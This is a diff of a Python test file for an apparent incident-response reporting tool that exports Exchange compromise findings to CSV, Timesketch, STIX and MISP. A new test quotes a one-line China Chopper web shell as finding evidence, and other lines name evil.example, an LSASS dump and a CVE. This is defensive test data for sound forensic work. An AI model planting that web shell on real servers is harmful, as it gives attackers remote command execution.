@@ -53,7 +53,7 @@ def _csv_rows(text: str) -> list[dict[str, str]]:
 
 def test_findings_csv_cells_are_inert(documents: list[dict[str, Any]]) -> None:
     rows = _csv_rows(render(documents, "csv"))
-    assert len(rows) == 4
+    assert len(rows) == 5
     cells = [cell for row in rows for cell in row.values()]
     assert not [c for c in cells if c and c[0] in "=+-@\t\r\n"], "a cell would run as a formula"
     evidence = {r["rule"]: r["evidence"] for r in rows}
@@ -66,7 +66,7 @@ def test_findings_csv_cells_are_inert(documents: list[dict[str, Any]]) -> None:
 def test_timesketch_jsonl_has_required_fields(documents: list[dict[str, Any]]) -> None:
     lines = render(documents, "timesketch").splitlines()
     events = [json.loads(line) for line in lines]
-    assert len(events) == 4  # three timeline events + the EX03 finding that no event refers to
+    assert len(events) == 5  # three timeline events + the two findings that no event refers to
     for event in events:
         assert event["message"] and event["timestamp_desc"]
         parsed = datetime.fromisoformat(event["datetime"])
@@ -81,7 +81,7 @@ def test_timesketch_jsonl_has_required_fields(documents: list[dict[str, Any]]) -
 
 def test_timesketch_csv_has_required_columns(documents: list[dict[str, Any]]) -> None:
     rows = _csv_rows(render(documents, "timesketch-csv"))
-    assert len(rows) == 4 and tuple(rows[0].keys()) == COLUMNS
+    assert len(rows) == 5 and tuple(rows[0].keys()) == COLUMNS
     for row in rows:
         assert row["message"] and row["datetime"] and row["timestamp_desc"] and row["timestamp"].isdigit()
 
@@ -97,6 +97,8 @@ def test_stix_bundle_parses_back_strictly(documents: list[dict[str, Any]]) -> No
     assert f"[file:hashes.'SHA-256' = '{SHELL_SHA}']" in patterns
     assert "[url:value = 'http://evil.example/x.js?\\'quote\\'']" in patterns  # quotes escaped, still valid
     assert not [p for p in patterns if "not-an-ip" in p]  # hostile text is not an indicator
+    files = {o.name for o in by_type["file"]}
+    assert files == {"supp0rt.aspx", "lsass.dmp"}  # rundll32.exe was used, not brought: never an indicator
     hosts = {i.id: i.name for i in by_type["identity"] if i.identity_class == "system"}
     ids = {o.id for o in bundle.objects}
     for sighting in by_type["sighting"]:
@@ -127,6 +129,7 @@ def test_misp_event_loads_in_pymisp(documents: list[dict[str, Any]]) -> None:
     assert values[("filename|sha256", f"supp0rt.aspx|{SHELL_SHA}")].to_ids is True
     assert values[("vulnerability", "CVE-2021-27065")].to_ids is False
     assert all(not a.to_ids for a in event.attributes if a.type == "user-agent")
+    assert not [a for a in event.attributes if "rundll32" in str(a.value)]
     assert "tlp:green" in [t.name for t in event.tags]
     assert event.threat_level_id == 1 and not event.published
     assert len(event.info) <= 256
@@ -158,3 +161,28 @@ def test_empty_and_partial_documents_render() -> None:
     for fmt in FORMATS:
         assert render(docs, fmt, "fr") is not None
     stix2.parse(render(docs, "stix"), allow_custom=False)
+
+
+def test_webshells_document_makes_the_file_an_indicator_to_remove() -> None:
+    webshells = {
+        "schema": "exaudit/1",
+        "kind": "webshells",
+        "hosts": [{"host": "EX05", "verdict": "compromised"}],
+        "findings": [
+            {
+                "rule": "webshell.chopper",
+                "title": "China Chopper",
+                "host": "EX05",
+                "severity": "critical",
+                "stage": "persistence",
+                "source": {"path": r"C:\inetpub\wwwroot\aspnet_client\x.aspx", "line": 1},
+                "evidence": "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>",
+            }
+        ],
+        "inputs": [{"path": r"C:\inetpub\wwwroot\aspnet_client\x.aspx", "sha256": "cd" * 32}],
+    }
+    bundle = stix2.parse(render([webshells], "stix"), allow_custom=False)
+    assert f"[file:hashes.'SHA-256' = '{'cd' * 32}']" in {o.pattern for o in bundle.objects if o.type == "indicator"}
+    html = render([webshells], "html")
+    plan = html[html.index('<section id="plan">') :]
+    assert r"C:\inetpub\wwwroot\aspnet_client\x.aspx" in plan and "cd" * 32 in plan
